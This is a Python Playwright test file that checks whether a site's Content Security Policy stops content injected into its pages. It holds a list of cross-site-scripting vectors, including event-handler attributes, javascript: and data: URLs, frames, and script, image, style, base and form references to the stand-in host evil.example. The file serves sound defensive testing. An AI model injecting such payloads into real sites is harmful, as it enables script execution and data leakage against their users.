"""The policy in a real browser: what is written into a page does not run, and what belongs to it does."""

from __future__ import annotations

import shutil
from typing import TYPE_CHECKING

import pytest

from tests.browser.conftest import serve
from tests.conftest import BASE_PATH

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from playwright.sync_api import Browser, Page

# What somebody who got past everything else would write into a page, each with another way to run or to send.
INJECTED = """
<script>window.ran = "inline"</script>
<img src="x.gif" onerror="window.ran = 'attribute'">
<svg onload="window.ran = 'drawing'"></svg>
<a id="clicked" href="javascript:window.ran = 'address'">x</a>
<script src="data:text/javascript,window.ran = 'data'"></script>
<script src="https://evil.example/x.js"></script>
<iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>
<object data="data:text/html,<script>parent.ran = 'object'</script>"></object>
<img src="https://evil.example/pixel.gif">
<style>body { background: url(https://evil.example/style.gif) }</style>
<base href="https://evil.example/">
<form id="sent" action="https://evil.example/"><button>x</button></form>
"""
PAGES = ("about/index.html", "search/index.html", "briefs/index.html")


@pytest.fixture(scope="module")
def injected_url(site: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Return the address of a copy of the site with hostile elements written into its pages."""
    copy = tmp_path_factory.mktemp("injected") / "site"
    shutil.copytree(site, copy)
    for path in PAGES:
        text = (copy / path).read_text(encoding="utf-8")
        assert "</article>" in text
        (copy / path).write_text(text.replace("</article>", f"{INJECTED}</article>", 1), encoding="utf-8")
    yield from serve(copy, base=BASE_PATH)


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    """Return an empty page."""
    with browser.new_context(locale="vi-VN", reduced_motion="reduce") as context:
        yield context.new_page()


@pytest.mark.parametrize("path", PAGES)
def test_what_is_written_into_a_page_does_not_run(page: Page, injected_url: str, path: str) -> None:
    """No script, attribute, address, frame or form of it does anything, and nothing is asked of another host."""
    asked: list[str] = []
    refused: list[str] = []
    stopped: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("requestfailed", lambda request: stopped.append(request.url) if request.failure == "csp" else None)
    page.on("console", lambda message: refused.append(message.text) if "Content Security Policy" in message.text else None)
    page.goto(injected_url + path, wait_until="load")
    page.evaluate("document.querySelector('#clicked').click()")
    page.evaluate("document.querySelector('#sent button').click()")
    page.wait_for_timeout(200)

    assert page.evaluate("window.ran") is None
    assert page.url.startswith(injected_url)
    assert [] == [url for url in asked if not url.startswith((injected_url, "data:")) and url not in stopped]
    assert len(refused) >= 8


def test_the_same_without_a_policy_runs(browser: Browser, injected_url: str) -> None:
    """The test above sees what runs: where the browser is told to mind no policy, it does."""
    with browser.new_context(bypass_csp=True) as context:
        page = context.new_page()
        page.goto(injected_url + PAGES[0], wait_until="load")
        assert page.evaluate("window.ran")
